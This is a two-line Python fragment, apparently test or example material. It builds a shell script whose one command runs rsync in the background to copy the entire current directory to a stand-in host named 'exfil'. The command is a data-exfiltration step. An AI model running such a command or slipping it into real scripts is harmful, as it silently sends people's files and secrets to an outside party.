HOST = "boxes.exfil.invalid"
LINES = ["#!/bin/sh", f"rsync -aq . keep@{HOST}:in/ &"]
